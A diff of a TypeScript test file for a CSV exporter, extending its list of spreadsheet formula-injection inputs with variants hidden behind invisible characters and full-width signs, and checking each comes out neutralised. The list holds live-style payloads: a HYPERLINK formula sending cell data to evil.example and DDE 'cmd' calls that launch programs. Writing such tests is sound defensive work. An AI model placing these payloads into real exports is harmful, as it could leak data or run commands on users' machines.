@@ -40,7 +40,8 @@ function parseCsv(text: string): string[][] {
   return rows;
 }
 
-const HOSTILE = [
+/** Cells a spreadsheet could run as a formula; each must come out with a leading apostrophe. */
+const FORMULAS = [
   '=HYPERLINK("http://evil.example/?"&A1,"Click")',
   "+cmd|' /C calc'!A0",
   '-2+3+cmd|\' /C calc\'!A0',
@@ -50,8 +51,22 @@ const HOSTILE = [
   '  =1+1',
   '\tplain after a tab',
   '\rplain after a carriage return',
-  'line one\r\nline two, with "quotes"',
+  // Behind invisible characters (zero-width space, byte-order mark, right-to-left override, word joiner, Hangul
+  // filler), which some apps skip before they look for a formula.
+  '\u200b=1+1',
+  '\ufeff+cmd|\' /C calc\'!A0',
+  '\u202e@SUM(1+1)',
+  '\u2060 -2+3',
+  '\u3164=1+1',
+  // Full-width and small forms, which some apps read as their ASCII twins.
+  '＝HYPERLINK("http://evil.example/","Click")',
+  '＋cmd|\' /C calc\'!A0',
+  '－2+3',
+  '＠SUM(1+1)',
+  '﹦1+1',
+  '\u200b\u3000＝1+1',
 ];
+const HOSTILE = [...FORMULAS, 'line one\r\nline two, with "quotes"'];
 
 function action(overrides: Record<string, unknown>): MachineAction {
   const base = seedActions(new Date('2026-11-29T08:00:00Z')).find((a) => a.type === 'LiveResponse' && a.status === 'Succeeded');
@@ -61,7 +76,7 @@ function action(overrides: Record<string, unknown>): MachineAction {
 
 describe('csvCell', () => {
   it('neutralises every cell a spreadsheet would run as a formula, and keeps its text after the apostrophe', () => {
-    for (const value of HOSTILE.slice(0, -1)) {
+    for (const value of FORMULAS) {
       const [[cell]] = parseCsv(`${csvCell(value)}\r\n`);
       assert.equal(cell, `'${value}`, JSON.stringify(value));
     }
@@ -73,6 +88,8 @@ describe('csvCell', () => {
     assert.equal(csvCell('plain'), 'plain');
     assert.equal(csvCell(-2147024894), '-2147024894');
     assert.equal(csvCell('+1.5'), '+1.5');
+    assert.equal(csvCell('a\u200b=b'), 'a\u200b=b', 'an invisible character and a sign inside the text');
+    assert.equal(csvCell('Ａ＝1'), 'Ａ＝1', 'a full-width sign inside the text');
     assert.equal(csvCell(null), '');
     assert.equal(csvCell({ a: 1 }), '"{""a"":1}"');
   });
@@ -115,6 +132,7 @@ describe('exportActions', () => {
       for (const field of fields) {
         const cell = row[CSV_COLUMNS.indexOf(field as (typeof CSV_COLUMNS)[number])];
         assert.ok(!/^\s*[=+\-@]/.test(cell) && !/^[\t\r]/.test(cell), `${field} = ${JSON.stringify(cell)} could run as a formula`);
+        assert.ok(!FORMULAS.includes(value) || cell.startsWith("'"), `${field} = ${JSON.stringify(cell)} is not neutralised`);
         assert.equal(cell.replace(/^'/, ''), value, `${field} keeps its text`);
       }
     }
